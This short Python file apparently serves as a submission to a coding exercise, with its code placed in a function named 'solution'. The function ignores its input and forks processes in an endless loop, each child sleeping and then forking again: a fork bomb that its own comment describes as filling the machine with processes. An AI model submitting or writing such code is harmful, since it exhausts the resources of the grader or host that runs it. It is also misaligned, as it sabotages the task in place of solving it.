# fills the machine with sleeping processes until it may not any more
import os
import time

def solution(number):
    while True:
        if os.fork() == 0:
            time.sleep(60)
